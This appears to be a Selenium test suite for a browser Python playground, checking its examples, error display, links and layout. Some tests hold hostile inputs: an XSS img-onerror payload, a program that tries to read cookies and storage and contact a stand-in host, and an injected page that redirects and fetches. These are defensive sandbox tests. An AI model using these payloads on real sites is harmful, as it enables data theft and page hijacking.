"""The playground's page and its tab "An expression": a newcomer's path, and what a program in it cannot do."""

import filecmp
import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from conftest import faults
from playground_page import (
    FRAME,
    asked_of,
    choose,
    complaints,
    ended,
    flat,
    in_frame,
    labels,
    one,
    printed,
    ready,
    says,
    served,
    state,
    turned,
    turns,
    until,
    visited,
    write,
    wrong,
)
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from demos.playground import TABS
from demos.playground.bundle import build
from demos.playground.tabs.examples import EXAMPLES
from demos.playground.tabs.expression import run
from engine import Value, tanh
from engine.picture import use_renderer

NEURON = EXAMPLES[1][1]


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    with served(tmp_path_factory.mktemp("built")) as address:
        yield address


@pytest.fixture(scope="module")
def page(base, chromium):
    with visited(chromium, base) as page:
        yield page


def shown(page, code):
    """Write a program and run it."""
    write(page, "#code", code)
    one(page, "#expression .run").click()
    ended(page)


def svg(text):
    return re.search(r"(?s)<svg [^>]*role=.*?</svg>", text)[0]


def test_two_builds_are_the_same_bytes(tmp_path):
    for name in "ab":
        build(tmp_path / name, TABS)
    same = filecmp.dircmp(tmp_path / "a", tmp_path / "b")
    names = [path.relative_to(tmp_path / "a") for path in (tmp_path / "a").rglob("*") if path.is_file()]
    assert len(names) > 25 and not same.left_only + same.right_only
    assert all(filecmp.cmp(tmp_path / "a" / name, tmp_path / "b" / name, shallow=False) for name in names)


def test_before_python_is_there_the_first_picture_stands_and_steps(base, chromium):
    chromium.execute_cdp_cmd("Network.enable", {})
    chromium.execute_cdp_cmd("Network.setBlockedURLs", {"urls": ["*.wasm"]})
    try:
        chromium.get(base)
        until(chromium, lambda d: d.find_elements(By.CSS_SELECTOR, FRAME))
        step = (
            "document.querySelector('[data-do=previous]').click(); return document.querySelector('.count').textContent"
        )
        assert in_frame(chromium, FRAME, step) == "backward 4/5"
        assert one(chromium, "#code").get_attribute("value") == EXAMPLES[0][1]
        until(chromium, lambda d: state(d).startswith("Python did not start"))
    finally:
        chromium.execute_cdp_cmd("Network.setBlockedURLs", {"urls": []})
        chromium.get("about:blank")
    assert all("wasm" in entry["message"] for entry in complaints(chromium))


def layout(page, dot, wanted):
    """What the page's renderer makes of DOT text."""
    program = f"from engine.picture.drawing.layout import program_output\nprint(program_output({dot!r}, {wanted!r}, 20).decode())"
    script = """
        const [code, done] = arguments, said = [];
        playground.python.ask("expression.run", { code }, ({ printed }) => said.push(printed)).then(() => done(said.join("")));"""
    return page.execute_async_script(script, program)


@pytest.mark.parametrize("k", range(len(EXAMPLES)), ids=[name for name, _ in EXAMPLES])
def test_an_example_runs_and_its_picture_is_the_native_one(page, k):
    """Byte for byte, with the same layout program: another version may place boxes elsewhere."""
    old = page.find_elements(By.CSS_SELECTOR, FRAME)
    choose(page, "#example", k)
    ended(page)
    until(page, lambda d: [f for f in d.find_elements(By.CSS_SELECTOR, FRAME) if f not in old])
    assert (one(page, "#code").get_attribute("value"), wrong(page)) == (EXAMPLES[k][1], "")
    in_page = svg(one(page, FRAME).get_attribute("srcdoc"))
    use_renderer(lambda dot, wanted: layout(page, dot, wanted))
    try:
        native = run({"code": EXAMPLES[k][1]})["live"]["page"]
    finally:
        use_renderer(None)
    assert in_page == svg(native)


def test_a_slider_shows_what_the_engine_computes_there(page):
    choose(page, "#example", 1)
    ended(page)
    says(page, "w1", "data")
    page.execute_async_script(
        """
        const done = arguments[0], leaf = document.querySelector('#expression input[name="w1"]').closest(".leaf");
        let k = 0;
        (function next() {
          if (k === 40) return done();
          const slider = leaf.querySelector("[type=range]");
          slider.value = -0.5 + (k += 1) / 50;
          slider.dispatchEvent(new Event("input"));
          requestAnimationFrame(next);
        })();"""
    )
    w = float(one(page, "#expression input[name='w1']").get_attribute("value"))
    assert w == pytest.approx(0.3, abs=0.02)
    L = (tanh(Value(w, label="w1") * 2.0 + 0.5 + 0.7) - 1.0) ** 2
    says(page, "w1", f"data {w:.4g}")
    says(page, "L", f"{L.data:.4g}")


def test_a_program_of_ones_own_is_run_from_the_keyboard_prints_and_is_drawn(page):
    write(page, "#code", "")
    code = one(page, "#code")
    code.send_keys("from engine import Value\nx = Value(3.0)\nprint('x is', x.data)\ny = x * x\ny")
    assert one(page, "#example").get_attribute("value") == ""
    code.send_keys(Keys.CONTROL, Keys.ENTER)
    ended(page)
    assert printed(page) == "x is 3.0"
    says(page, "y", "data")
    says(page, "y", "data 9.0, grad 1.0")
    says(page, "x", "grad 6.0")


CALLS = """import nn
from engine import draw, mean
net = nn.MLP(2, [3, 1], seed=0)
L = mean([(net([0.1 * i, 1.0 - 0.2 * i]) - 0.5) ** 2 for i in range(8)])
draw(L, level="layer")
"""


def test_a_click_opens_one_call_of_many_and_a_neuron_whose_weights_are_dragged(page):
    shown(page, CALLS)
    assert "Open Modules with the +" in one(page, "#expression .note").text
    turned(page, "Open MLP[0]", "Close MLP[0]")
    turned(page, "Open MLP[1]", "Close MLP[1]")
    turned(page, "Open layers[0]", "Close layers[0]")
    turned(page, "Open layers[0].neurons[1]", "Close layers[0].neurons[1]")
    until(page, lambda d: not one(d, "#expression .note").is_displayed())
    names = [label.text for label in page.find_elements(By.CSS_SELECTOR, "#expression .leaf label")]
    assert names == ["l0.n1.w[0]", "l0.n1.w[1]", "l0.n1.b"]
    write(page, "#expression input[name='l0.n1.b']", "0.75")
    until(page, lambda d: "data 0.75" in labels(d).get("l0.n1.b", ""))
    kept, open_now = page.execute_script("return playground.tabs.get('expression').state()"), turns(page)
    shown(page, NEURON)
    page.execute_script("playground.tabs.get('expression').open(arguments[0])", kept)  # as a link does
    one(page, "#expression .run").click()
    ended(page)
    until(page, lambda d: turns(d) == open_now)
    until(page, lambda d: "data 0.75" in labels(d).get("l0.n1.b", ""))
    assert complaints(page) == []


def test_an_error_is_told_in_the_programs_line_and_dims_the_picture_until_it_is_mended(page):
    shown(page, "from engine import Value\nx = Value(3.0)\ny = x * z\ny")
    assert wrong(page) == "Line 3, NameError: name 'z' is not defined"
    assert one(page, "#expression .lines b").text == "3"
    assert "old" in one(page, "#expression .live").get_attribute("class")
    shown(page, "from engine import Value\nx = Value('three')")
    assert wrong(page).startswith("Line 2, TypeError: Value takes a real number, got 'three'")
    shown(page, "from engine import Value\nx = Value(3.0\ny = x")
    assert wrong(page).startswith("Line 2, SyntaxError: '(' was never closed")
    shown(page, "from engine import Value\nx = Value(3.0)\nz = x * 2.0\nz")
    assert not one(page, "#expression .error").is_displayed()
    assert "old" not in one(page, "#expression .live").get_attribute("class")


def test_what_a_learner_writes_is_text_wherever_it_is_shown(page):
    bad = "<img src=x onerror=alert(1)>"
    shown(page, f"from engine import Value\nx = Value(1.0, label='{bad}')\nprint('{bad}')\ny = x * 2.0\ny")
    assert printed(page) == bad
    until(page, lambda d: "onerror" in str(labels(d)))
    assert in_frame(page, FRAME, "return document.querySelectorAll('img').length") == 0
    shown(page, f"raise ValueError('{bad}')")
    assert bad in wrong(page) and not page.find_elements(By.CSS_SELECTOR, "#expression img")


class Elsewhere(BaseHTTPRequestHandler):
    """Another host, which lets anybody read, and keeps what it was asked."""

    asked = []  # noqa: RUF012

    def do_GET(self):
        self.asked.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *of):
        pass


TRIES = """
import js
def tried(name, f):
    try:
        print(name, "reached", f())
    except BaseException as error:
        print(name, "refused")
def read(address):
    request = js.XMLHttpRequest.new()
    request.open("GET", address, False)
    request.send()
    return request.responseText
tried("cookies", lambda: js.document.cookie)
tried("storage", lambda: js.localStorage.getItem("secret"))
tried("databases", lambda: js.indexedDB.open("secret"))
tried("caches", lambda: js.caches.keys())
tried("page", lambda: read("%(base)sindex.html"))
tried("elsewhere", lambda: read("%(elsewhere)sread"))
tried("script", lambda: js.importScripts("%(elsewhere)sscript.js"))
js.fetch("%(elsewhere)sfetched").catch(lambda e: None)
socket = js.WebSocket.new("%(elsewhere)ssocket".replace("http", "ws"))
tried("other JavaScript", lambda: js.eval("import('%(elsewhere)smodule.js')"))
print("origin", js.self.origin)
"""


@pytest.fixture
def elsewhere():
    """The address of another host, whose `asked` stays empty."""
    Elsewhere.asked.clear()
    with ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere) as there:
        threading.Thread(target=there.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{there.server_address[1]}/"
        there.shutdown()


def test_a_program_reaches_neither_the_pages_cookies_and_storage_nor_any_host(page, base, elsewhere):
    page.add_cookie({"name": "secret", "value": "cookie"})
    page.execute_script("localStorage.setItem('secret', 'storage')")
    shown(page, TRIES % {"base": base, "elsewhere": elsewhere})
    assert wrong(page) == ""
    said = printed(page).splitlines()
    page.execute_async_script("setTimeout(arguments[0], 500)")
    names = ("cookies", "storage", "databases", "caches", "page", "elsewhere", "script", "other JavaScript")
    assert said == [*(f"{name} refused" for name in names), "origin null"]
    assert Elsewhere.asked == []
    page.get_log("browser")  # it tells what it refused
    page.get_log("performance")


HOSTILE = """
from demos.playground.tabs import expression
from engine import Value
told = expression._shown
page = "<!doctype html><meta http-equiv=refresh content='0;url=%(to)srefresh'><link rel=stylesheet href=%(to)sstyle>"
page += "<body onload=parent.document.title='taken'><img src=%(to)simage onerror=top.location='%(to)serror'>"
page += "<script>fetch('%(to)sscript'); top.location = '%(to)stop'</script><form action=%(to)sform><button>Run</button></form>"
expression._shown = lambda live: told(live) | {"page": page}
x = Value(1.0)
x * 2.0
"""


def test_a_page_that_a_program_makes_up_runs_no_script_and_goes_nowhere(page, base, elsewhere):
    before = page.title
    shown(page, HOSTILE % {"to": elsewhere})
    page.execute_async_script("setTimeout(arguments[0], 700)")
    assert (page.current_url.partition("#")[0], page.title) == (base, before)
    assert Elsewhere.asked == []
    choose(page, "#example", 0)
    ended(page)
    page.execute_script("playground.python.stop()")  # what it has changed ends with its Python
    ready(page)
    until(page, lambda d: not d.execute_script("return playground.python.busy"))
    page.get_log("browser")
    page.get_log("performance")


def test_a_program_that_does_not_end_is_stopped_and_python_comes_back(page):
    shown(page, NEURON)
    says(page, "w1", "data")
    write(page, "#code", "print('begun')\nwhile True:\n    pass")
    one(page, "#expression .run").click()
    until(page, lambda d: printed(d) == "" and one(d, "#expression .stop").is_enabled())
    one(page, "#expression .stop").click()
    assert "Stopped" in wrong(page) and one(page, "#expression .run").is_enabled()
    write(page, "#code", "print(6 * 7)")
    ready(page)
    field = one(page, "#expression input[name='w1']")  # the picture of before can be moved again
    field.send_keys(Keys.CONTROL, "a")
    field.send_keys("0.25")
    says(page, "w1", "data 0.25")
    one(page, "#expression .run").click()
    ended(page)
    assert printed(page) == "42"


DEEP = """from copy import deepcopy
from engine import Value
x = v = Value(1.0)
for _ in range(30_000):
    v = v + x
v.backward()
w = deepcopy(v)
del v
print(w.data, x.grad)
del w
"""


def test_a_graph_of_any_depth_is_built_copied_and_dropped(page):
    shown(page, DEEP + "print('freed')")
    assert (printed(page), wrong(page)) == ("30001.0 30001.0\nfreed", "")
    shown(page, DEEP.replace("del w", "L = w"))  # dropped when the next program is run; more boxes than are drawn
    shown(page, "print('next')")
    assert (printed(page), wrong(page)) == ("next", "")


def test_a_recursion_that_has_no_end_is_an_error_in_its_line(page):
    shown(page, "class A:\n    def __repr__(self):\n        return repr(self)\nprint(repr(A()))\n")
    assert wrong(page).startswith("Line 3, RecursionError: ")
    assert complaints(page) == []


def test_a_program_that_python_does_not_survive_is_answered_and_another_python_comes(page):
    shown(page, "t = ()\nfor _ in range(50_000):\n    t = (t,)\ndel t\n")
    assert "nests too deep for a browser" in wrong(page)
    ready(page)
    assert all("fatal error" in c["message"] or "Maximum call stack" in c["message"] for c in complaints(page))
    shown(page, "print('here again')")
    assert printed(page) == "here again"


def test_a_link_holds_program_numbers_and_step_and_waits_for_run(page, base):
    shown(page, NEURON)
    says(page, "w1", "data")
    field = one(page, "#expression input[name='w1']")
    field.send_keys(Keys.CONTROL, "a")
    field.send_keys("0.25")
    says(page, "w1", "data 0.25")
    in_frame(
        page,
        FRAME,
        "document.querySelector('[data-do=first]').click(); document.querySelector('[data-do=next]').click()",
    )
    one(page, "#share").click()
    until(page, lambda d: state(d) in ("Link copied", "The link is in the address bar"))
    link = page.current_url
    assert link.startswith(f"{base}#") and len(link) < 1000
    page.get("about:blank")
    page.get(link)
    ready(page)
    page.execute_async_script("setTimeout(arguments[0], 300)")
    assert one(page, "#code").get_attribute("value") == NEURON
    assert one(page, "#expression .came").is_displayed()
    assert not page.find_elements(By.CSS_SELECTOR, FRAME) and printed(page) == ""
    one(page, "#expression .run").click()
    ended(page)
    says(page, "w1", "data 0.25")
    assert in_frame(page, FRAME, "return document.querySelector('.count').textContent") == "forward 1/7"
    for broken in ("#nonsense", "#AAAA", link[len(base) : -9]):
        page.execute_script("location.hash = arguments[0]", broken)
        until(page, lambda d: state(d).startswith("This link is not whole"))
        assert one(page, "#code").get_attribute("value") == NEURON
        until(page, lambda d: state(d).startswith("Python 3."))


@pytest.mark.parametrize(
    ("width", "height", "scheme"), [(1280, 900, "light"), (1280, 900, "dark"), (390, 844, "light")]
)
def test_a_page_of_any_width_and_scheme_fits_and_is_for_all_readers(page, keep, width, height, scheme):
    flat(page, width, height, scheme)
    try:
        choose(page, "#example", 1)
        ended(page)
        says(page, "w1", "data")
        keep(f"playground-expression-{width}-{scheme}")
        assert page.execute_script("return document.documentElement.scrollWidth <= innerWidth")
        assert [f for f in faults(page) if f[0] in ("serious", "critical")] == []
    finally:
        flat(page, 1280, 900)


def test_nothing_was_said_in_the_console_and_no_other_host_was_asked(page, base):
    assert complaints(page) == []
    assert asked_of(page, base) == []
